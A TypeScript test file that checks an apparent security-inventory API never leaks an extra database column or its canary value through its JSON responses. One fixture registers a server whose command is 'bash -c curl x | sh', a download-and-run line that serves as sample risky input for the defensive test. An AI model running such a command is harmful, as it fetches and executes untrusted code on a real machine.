// Response serialisation goes through each route's schema: a column added to a table (here,
// after the fact, with a value in every row) never reaches the JSON of the routes that read
// whole rows, on SQLite and PostgreSQL.
import pg from 'pg';
import { sql } from 'kysely';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { makeTestApp, setupOwner, type Client, type TestApp } from './helpers/app.js';
import { dialects, PG_SKIP_REASON, skipReason } from './helpers/databases.js';
import { report, server, tool } from './inventory/fixtures.js';

const CANARY = 'canary-extra-column-7f3b9d';
const TABLES = ['servers', 'hosts', 'server_instances', 'tools', 'findings', 'events', 'alerts', 'overrides', 'agent_keys', 'webhooks', 'webhook_deliveries', 'users', 'memberships', 'orgs'];

for (const dialect of dialects) {
  describe.skipIf(skipReason(dialect))(`an extra column does not reach the JSON on ${dialect}${skipReason(dialect) ? ` (${PG_SKIP_REASON})` : ''}`, () => {
    let t: TestApp;
    let owner: Client;
    let serverId: string;
    let hostId: string;
    let webhookId: string;

    /** Adds `secret_thing` (with the canary in every row) to each table, as the database owner. */
    async function addColumn(): Promise<void> {
      if (dialect === 'sqlite') {
        for (const table of TABLES) {
          await sql`alter table ${sql.table(table)} add column secret_thing text`.execute(t.platform.store.db);
          await sql`update ${sql.table(table)} set secret_thing = ${CANARY}`.execute(t.platform.store.db);
        }
        return;
      }
      // the app's role cannot change tables (and row-level security hides rows from it): the owner does
      const client = new pg.Client({ connectionString: t.db.migrationUrl });
      await client.connect();
      try {
        for (const table of TABLES) {
          await client.query(`alter table ${table} add column secret_thing text`);
          await client.query(`update ${table} set secret_thing = $1`, [CANARY]);
        }
      } finally {
        await client.end();
      }
    }

    beforeAll(async () => {
      t = await makeTestApp(dialect);
      ({ client: owner } = await setupOwner(t.app));
      const key = (await owner.post('/api/v1/agent-keys', { name: 'laptops' })).json().key as string;
      const r = await t.app.inject({
        method: 'POST',
        url: '/api/v1/agent/report',
        headers: { 'x-api-key': key, 'content-type': 'application/json' },
        payload: JSON.stringify(report([server({ name: 'shell', command: 'bash', args: ['-c', 'curl x | sh'], tools: [tool('run', 'Runs a command.')] })])),
      });
      expect(r.statusCode).toBe(200);
      hostId = r.json().hostId;
      serverId = (await owner.get('/api/v1/servers')).json().items[0].id;
      const o = await owner.post(`/api/v1/servers/${serverId}/overrides`, { decision: 'accept_risk', reason: 'lab machine', expiresAt: new Date(Date.now() + 7 * 86_400_000).toISOString() });
      expect(o.statusCode).toBe(201);
      const w = await owner.post('/api/v1/webhooks', { name: 'ops', url: 'https://hooks.example.com/palisade', enabled: false });
      expect(w.statusCode).toBe(201);
      webhookId = w.json().id;
      await addColumn();
    }, 120_000);
    afterAll(async () => {
      await t?.close();
    });

    it('the column holds the canary in the database', async () => {
      const row = await sql<{ secret_thing: string }>`select secret_thing from agent_keys`.execute(t.platform.store.db).catch(() => null);
      // on PostgreSQL the app's role sees only its organisation's rows, outside a scope none: checked through the routes below
      if (dialect === 'sqlite') expect(row?.rows[0]?.secret_thing).toBe(CANARY);
    });

    const ROUTES = () => [
      '/api/v1/servers',
      `/api/v1/servers/${serverId}`,
      '/api/v1/hosts',
      `/api/v1/hosts/${hostId}`,
      '/api/v1/findings',
      '/api/v1/overrides',
      '/api/v1/agent-keys',
      '/api/v1/webhooks',
      `/api/v1/webhooks/${webhookId}/deliveries`,
      '/api/v1/users',
      '/api/v1/me',
      '/api/v1/settings',
    ];

    it('no route that reads those rows sends the column or its value', async () => {
      for (const url of ROUTES()) {
        const r = await owner.get(url);
        expect(r.statusCode, url).toBe(200);
        expect(r.body, url).not.toContain(CANARY);
        expect(r.body, url).not.toContain('secret_thing');
      }
      // and the answers still hold the real fields
      const detail = (await owner.get(`/api/v1/servers/${serverId}`)).json();
      expect(detail).toMatchObject({ id: serverId, name: 'shell', tools: [expect.objectContaining({ name: 'run' })] });
      expect(detail.overrides[0]).toMatchObject({ decision: 'accept_risk', reason: 'lab machine', createdBy: { email: 'owner@a.test' } });
      expect((await owner.get('/api/v1/hosts')).json().items[0]).toMatchObject({ id: hostId });
    });

    it('nor do the answers of changes', async () => {
      const changed = await owner.request('PATCH', `/api/v1/webhooks/${webhookId}`, { body: { name: 'ops 2' } });
      expect(changed.statusCode).toBe(200);
      expect(changed.body).not.toContain(CANARY);
      const overrides = (await owner.get('/api/v1/overrides')).json().items as Array<{ id: string; status: string }>;
      const revoked = await owner.post(`/api/v1/overrides/${overrides[0]!.id}/revoke`);
      expect(revoked.statusCode).toBe(200);
      expect(revoked.body).not.toContain(CANARY);
      expect(revoked.body).not.toContain('secret_thing');
    });
  });
}
